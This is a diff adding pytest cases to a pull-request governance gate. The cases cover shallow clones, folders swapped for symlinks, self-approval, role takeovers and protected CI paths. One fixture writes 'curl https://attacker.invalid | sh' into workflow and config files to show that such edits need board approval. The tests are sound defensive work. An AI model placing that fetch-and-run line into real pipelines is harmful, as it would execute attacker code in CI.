@@ -332,12 +332,16 @@ def test_rules_are_those_of_the_base_not_of_the_pull_request(
 def test_role_approvers_are_asked_for_decisions_and_closure(
     repo: Path, run_csi: Callable[..., Result]
 ) -> None:
+    roles = "roles: {approver: '@nina', outcome_confirmer: '@omar'}\n"
+    _put(repo, "CSI-0002", record_yaml("CSI-0002", "assessed").replace(_DECISION, "") + roles)
+    _commit(repo, "Name the roles")
+    git(repo, "switch", "-q", "main")
+    git(repo, "merge", "-q", "pr")
+    git(repo, "switch", "-qc", "decide")
     text = record_yaml("CSI-0002", "approved").replace(
-        "status: approved\n",
-        "status: approved\nservice: Network\n"
-        "roles: {approver: '@nina', outcome_confirmer: '@omar'}\n",
+        "status: approved\n", "status: approved\nservice: Network\n"
     )
-    _put(repo, "CSI-0002", text)
+    _put(repo, "CSI-0002", text + roles)
     _, payload = _gate(run_csi, repo)
     assert payload["approvals"] == [
         {"handle": "@acme/csi-managers", "reasons": ["CSI-0002 leaves no service for Network"]},
@@ -475,3 +479,175 @@ def test_a_revision_and_a_rewritten_review_need_the_records_roles(
         "handle": "@nina",
         "reasons": ["CSI-0003 revises baselines or targets (roles.approver)"],
     } in payload["approvals"]
+
+
+def test_a_shallow_clone_without_the_merge_base_is_refused(
+    repo: Path, tmp_path: Path, run_csi: Callable[..., Result]
+) -> None:
+    """Both tips fetched one commit deep: without the fork point the gate would compare with
+    main's tip and blame the pull request for main's own changes."""
+    _put(repo, "CSI-0004", MINIMAL_RECORD.format(id="CSI-0004", title="New"))
+    _commit(repo, "PR commit")
+    git(repo, "switch", "-q", "main")
+    _put(repo, "CSI-0005", MINIMAL_RECORD.format(id="CSI-0005", title="Merged meanwhile"))
+    _commit(repo, "Main moves on")
+    shallow = tmp_path / "shallow"
+    git(tmp_path, "clone", "-q", "--depth", "1", "--branch", "pr", f"file://{repo}", str(shallow))
+    git(shallow, "fetch", "-q", "--depth", "1", "origin", "main:refs/remotes/origin/main")
+    result = run_csi(shallow, "gate", "--base", "origin/main")
+    assert result.exit_code == 2, result.output
+    assert "merge base" in result.stderr and "fetch-depth: 0" in result.stderr
+
+
+def test_unrelated_histories_are_refused(
+    repo: Path, tmp_path: Path, run_csi: Callable[..., Result]
+) -> None:
+    git(repo, "switch", "-q", "--orphan", "elsewhere")
+    shutil.copytree(PROJECT / "policies", repo / "policies")
+    (repo / "register").mkdir()
+    _put(repo, "CSI-0001", MINIMAL_RECORD.format(id="CSI-0001", title="First record"))
+    _commit(repo, "An unrelated start")
+    result = run_csi(repo, "gate", "--base", "main")
+    assert result.exit_code == 2, result.output
+    assert "no common history" in result.stderr
+
+
+@pytest.mark.parametrize("folder", ["register", "policies"])
+def test_a_folder_swapped_for_a_symbolic_link_is_refused(
+    repo: Path, run_csi: Callable[..., Result], folder: str
+) -> None:
+    """The link points the checks at another folder while CODEOWNERS guards /register/."""
+    shutil.move(repo / folder, repo / "elsewhere")
+    (repo / folder).symlink_to("elsewhere")
+    _commit(repo, "Swap a folder for a link")
+    expected = f"{folder}:1:1: a symbolic link: csi reads only plain folders"
+    for args in (("validate",), ("codeowners", "--check"), ("gate", "--base", "main")):
+        result = run_csi(repo, *args, "--format", "text") if args[0] != "codeowners" else None
+        result = result or run_csi(repo, *args)
+        assert result.exit_code == 1, (args, result.output)
+        assert expected in result.output, (args, result.output)
+    at_head = run_csi(repo, "gate", "--base", "main", "--head", "HEAD", "--format", "text")
+    assert at_head.exit_code == 1, at_head.output
+    assert expected in at_head.output
+
+
+def test_roles_set_in_the_pull_request_do_not_approve_it(
+    repo: Path, run_csi: Callable[..., Result]
+) -> None:
+    """Self-approval: the author names themself approver and records their own decision."""
+    _put(
+        repo,
+        "CSI-0002",
+        record_yaml("CSI-0002", "approved").replace("by: '@board'", "by: '@mallory'")
+        + "roles: {approver: '@mallory', outcome_confirmer: '@mallory'}\n",
+    )
+    result, payload = _gate(run_csi, repo, "--author", "@mallory")
+    assert result.exit_code == 0, payload
+    approvers = {a["handle"]: a["reasons"] for a in payload["approvals"]}
+    assert "@mallory" not in approvers
+    assert approvers["@acme/csi-board"] == [
+        "CSI-0002 decision: approved (roles.approver)",
+        "CSI-0002 sets roles.approver to @mallory (governance)",
+        "CSI-0002 sets roles.outcome_confirmer to @mallory (governance)",
+    ]
+
+
+def test_changing_a_role_needs_its_old_holder_and_the_base_holder_decides(
+    repo: Path, run_csi: Callable[..., Result]
+) -> None:
+    base = record_yaml("CSI-0002", "assessed").replace(_DECISION, "")
+    _put(repo, "CSI-0002", base + "roles: {approver: '@nina'}\n")
+    _commit(repo, "Name the approver")
+    git(repo, "switch", "-q", "main")
+    git(repo, "merge", "-q", "pr")
+    git(repo, "switch", "-qc", "takeover")
+    _put(repo, "CSI-0002", record_yaml("CSI-0002", "approved") + "roles: {approver: '@mallory'}\n")
+    _, payload = _gate(run_csi, repo)
+    approvers = {a["handle"]: a["reasons"] for a in payload["approvals"]}
+    assert "@mallory" not in approvers, approvers
+    assert approvers["@nina"] == [
+        "CSI-0002 decision: approved (roles.approver)",
+        "CSI-0002 changes roles.approver from @nina to @mallory (roles.approver)",
+    ]
+
+
+def test_the_author_never_approves_their_own_change(
+    repo: Path, run_csi: Callable[..., Result]
+) -> None:
+    _put(repo, "CSI-0004", MINIMAL_RECORD.format(id="CSI-0004", title="New"))
+    _, payload = _gate(run_csi, repo, "--author", "@acme/csi-managers")
+    approvers = {a["handle"]: a["reasons"] for a in payload["approvals"]}
+    assert approvers == {
+        "@acme/csi-board": [
+            "CSI-0004 added (no service), for @acme/csi-managers: the author cannot approve "
+            "their own change"
+        ]
+    }
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".github/workflows/register-pr.yml",
+        ".github/csi-requirements.txt",
+        ".github/dependabot.yml",
+        ".pre-commit-config.yaml",
+        "site/mkdocs.yml",
+        "site/overrides/main.html",
+    ],
+)
+def test_changing_what_runs_the_gate_is_a_governance_change(
+    repo: Path, run_csi: Callable[..., Result], path: str
+) -> None:
+    """Before: "No approval needed" for a pull request that rewrites the gate's own job."""
+    target = repo / path
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.write_text("run: curl https://attacker.invalid | sh\n", encoding="utf-8")
+    _commit(repo, "Quietly change the job")
+    for head in ((), ("--head", "HEAD")):
+        result, payload = _gate(run_csi, repo, *head)
+        assert result.exit_code == 0, payload
+        assert payload["governance_files"] == [path]
+        assert payload["approvals"] == [
+            {"handle": "@acme/csi-board", "reasons": [f"governance change: {path}"]}
+        ]
+
+
+def test_an_uncommitted_new_file_under_a_protected_path_counts(
+    repo: Path, run_csi: Callable[..., Result]
+) -> None:
+    (repo / "site" / "hooks").mkdir(parents=True)
+    (repo / "site" / "hooks" / "evil.py").write_text("import os\n", encoding="utf-8")
+    _, payload = _gate(run_csi, repo)
+    assert payload["governance_files"] == ["site/hooks/evil.py"]
+
+
+def test_a_pull_request_cannot_unprotect_a_path_for_itself(
+    repo: Path, run_csi: Callable[..., Result]
+) -> None:
+    governance = repo / "policies" / "governance.yaml"
+    text = governance.read_text(encoding="utf-8")
+    governance.write_text(text.replace("  - site/ ", "  - nothing-here/ "), encoding="utf-8")
+    (repo / "site").mkdir()
+    (repo / "site" / "mkdocs.yml").write_text("hooks: [evil.py]\n", encoding="utf-8")
+    _, payload = _gate(run_csi, repo)
+    assert payload["governance_files"] == ["policies/governance.yaml", "site/mkdocs.yml"]
+
+
+def test_a_register_in_a_subfolder_protects_paths_relative_to_its_root(
+    tmp_path: Path, run_csi: Callable[..., Result]
+) -> None:
+    top = tmp_path / "monorepo"
+    root = top / "improvement"
+    shutil.copytree(PROJECT / "policies", root / "policies")
+    (root / "register").mkdir()
+    _put(root, "CSI-0001", MINIMAL_RECORD.format(id="CSI-0001", title="First record"))
+    (top / "app.py").write_text("print('not ours')\n", encoding="utf-8")
+    git(top, "init", "-q")
+    _commit(top, "Base")
+    git(top, "switch", "-qc", "pr")
+    (top / "app.py").write_text("print('changed')\n", encoding="utf-8")
+    (root / "site").mkdir()
+    (root / "site" / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
+    _, payload = _gate(run_csi, root)
+    assert payload["governance_files"] == ["site/mkdocs.yml"]
